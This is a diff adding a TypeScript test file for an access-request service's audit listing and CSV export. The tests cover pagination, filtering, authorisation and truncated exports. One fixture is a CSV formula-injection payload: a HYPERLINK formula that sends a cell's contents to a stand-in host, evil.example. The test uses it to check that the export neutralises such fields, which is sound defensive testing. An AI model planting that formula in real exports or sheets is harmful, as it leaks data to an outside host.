@@ -1,0 +1,187 @@
+import { InMemoryAccessRequestRepository } from '@elevate/adapters';
+import { describe, expect, it } from 'vitest';
+import { requestPageSchema, requestViewSchema } from '@elevate/contracts';
+import type { RequestSummary } from '@elevate/contracts';
+import type { AccessRequestRepository } from '@elevate/domain';
+import { apiWorld } from '../testing/api-world';
+import { PERSONAS } from '../testing/personas';
+
+const { alice, bob, rita, audrey } = PERSONAS;
+
+/** Like the DynamoDB store when its read budget runs out: short pages with a cursor to go on. */
+function shortPages(inner: AccessRequestRepository, size: number): AccessRequestRepository {
+  return new Proxy(inner, {
+    get(target, property, receiver) {
+      if (property === 'listForAudit') {
+        return (query: Parameters<AccessRequestRepository['listForAudit']>[0]) =>
+          target.listForAudit({ ...query, limit: Math.min(query.limit, size) });
+      }
+      const value: unknown = Reflect.get(target, property, receiver);
+      return typeof value === 'function' ? value.bind(target) : value;
+    },
+  });
+}
+
+const RANGE = 'from=2030-01-01T00:00:00Z&to=2030-01-02T00:00:00Z';
+const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") for the deploy';
+
+async function seeded() {
+  const w = apiWorld({ repository: shortPages(new InMemoryAccessRequestRepository(), 3) });
+  const bodies = [
+    { accountId: '111111111111', roleName: 'PowerUser', justification: INJECTION },
+    {
+      accountId: '222222222222',
+      roleName: 'ReadOnly',
+      justification: '@SUM(1+1) "quoted", with commas',
+    },
+    { accountId: '111111111111', roleName: 'ReadOnly', justification: '-2+3 looks like a number' },
+  ];
+  let minute = 0;
+  for (const who of [alice, bob, rita]) {
+    for (const body of bodies) {
+      minute += 1;
+      w.setNow(`2030-01-01T10:${String(minute).padStart(2, '0')}:00.000Z`);
+      const response = await w.call(who, 'POST', '/requests', body);
+      expect(response.status).toBe(201);
+    }
+  }
+  // One outside the range.
+  w.setNow('2030-01-03T10:00:00.000Z');
+  await w.call(alice, 'POST', '/requests', bodies[0]);
+  w.setNow('2030-01-03T11:00:00.000Z');
+  return w;
+}
+
+async function allPages(
+  w: Awaited<ReturnType<typeof seeded>>,
+  query: string,
+): Promise<RequestSummary[]> {
+  const items: RequestSummary[] = [];
+  let cursor: string | undefined;
+  do {
+    const response = await w.call(
+      audrey,
+      'GET',
+      `/audit/requests?${query}${cursor === undefined ? '' : `&cursor=${cursor}`}`,
+    );
+    expect(response.status).toBe(200);
+    const page = requestPageSchema.parse(await response.json());
+    items.push(...page.items);
+    cursor = page.nextCursor;
+  } while (cursor !== undefined);
+  return items;
+}
+
+/** A minimal RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  const field = /"((?:[^"]|"")*)"(,|\r\n)/gy;
+  let row: string[] = [];
+  for (let match = field.exec(text); match !== null; match = field.exec(text)) {
+    row.push((match[1] ?? '').replaceAll('""', '"'));
+    if (match[2] === '\r\n') {
+      rows.push(row);
+      row = [];
+    }
+  }
+  expect(field.lastIndex === 0 || field.lastIndex === text.length).toBe(true);
+  return rows;
+}
+
+describe('GET /audit/requests', () => {
+  it('lists every request in the range newest first across pages, filtered', async () => {
+    const w = await seeded();
+    const all = await allPages(w, RANGE);
+    expect(all).toHaveLength(9);
+    expect(all.map((item) => item.createdAt)).toEqual(
+      [...all.map((item) => item.createdAt)].sort().reverse(),
+    );
+
+    const bobs = await allPages(w, `${RANGE}&requester=bob@example.com&accountId=111111111111`);
+    expect(bobs.map((item) => [item.requester.sub, item.accountId])).toEqual([
+      [bob.sub, '111111111111'],
+      [bob.sub, '111111111111'],
+    ]);
+    const bySub = await allPages(w, `${RANGE}&requester=${rita.sub}&roleName=ReadOnly`);
+    expect(bySub).toHaveLength(2);
+  });
+});
+
+describe('GET /audit/requests.csv', () => {
+  it('streams every page of the filtered listing as an attachment', async () => {
+    const w = await seeded();
+    const query = `${RANGE}&accountId=111111111111`;
+    const response = await w.call(audrey, 'GET', `/audit/requests.csv?${query}`);
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toBe(
+      'attachment; filename="elevate-audit-20300101T000000Z-20300102T000000Z.csv"',
+    );
+    expect(response.headers.get('cache-control')).toBe('no-store');
+
+    const [header, ...rows] = parseCsv(await response.text());
+    expect(header?.slice(0, 3)).toEqual(['id', 'createdAt', 'requesterEmail']);
+    const listed = await allPages(w, query);
+    expect(listed).toHaveLength(6);
+    expect(rows.map((row) => row[0])).toEqual(listed.map((item) => item.id));
+  });
+
+  it('neutralises formula payloads and keeps quotes and commas inside their field', async () => {
+    const w = await seeded();
+    const text = await (await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`)).text();
+    const [header, ...rows] = parseCsv(text);
+    const column = header?.indexOf('justification') ?? -1;
+    const justifications = new Set(rows.map((row) => row[column]));
+    expect(justifications).toEqual(
+      new Set([`'${INJECTION}`, `'@SUM(1+1) "quoted", with commas`, `'-2+3 looks like a number`]),
+    );
+    expect(rows.every((row) => row.length === header?.length)).toBe(true);
+    expect(text).not.toMatch(/(^|,|\r\n)"[=+\-@]/);
+  });
+
+  it('is refused to a requester before anything is streamed', async () => {
+    const w = await seeded();
+    const response = await w.call(alice, 'GET', `/audit/requests.csv?${RANGE}`);
+    expect(response.status).toBe(403);
+    expect(response.headers.get('content-type')).toBe('application/problem+json');
+  });
+
+  it('marks an export cut short by a failing store instead of ending it quietly', async () => {
+    const inner = new InMemoryAccessRequestRepository();
+    let calls = 0;
+    const failing = new Proxy(shortPages(inner, 2), {
+      get(target, property, receiver) {
+        if (property === 'listForAudit') {
+          return async (query: Parameters<AccessRequestRepository['listForAudit']>[0]) => {
+            calls += 1;
+            if (calls > 1) throw new Error('ProvisionedThroughputExceededException');
+            return target.listForAudit(query);
+          };
+        }
+        return Reflect.get(target, property, receiver);
+      },
+    });
+    const w = apiWorld({ repository: failing });
+    for (let i = 0; i < 3; i += 1) {
+      requestViewSchema.parse(
+        await (
+          await w.call(alice, 'POST', '/requests', {
+            accountId: '111111111111',
+            roleName: 'PowerUser',
+            justification: 'Debug the failing deploy pipeline',
+          })
+        ).json(),
+      );
+    }
+    const text = await (
+      await w.call(
+        audrey,
+        'GET',
+        `/audit/requests.csv?${RANGE.replace('2030-01-01T00', '2029-12-31T00')}`,
+      )
+    ).text();
+    const rows = parseCsv(text);
+    expect(rows.at(-1)?.[0]).toBe('EXPORT INCOMPLETE');
+    expect(text).not.toContain('ProvisionedThroughput');
+  });
+});
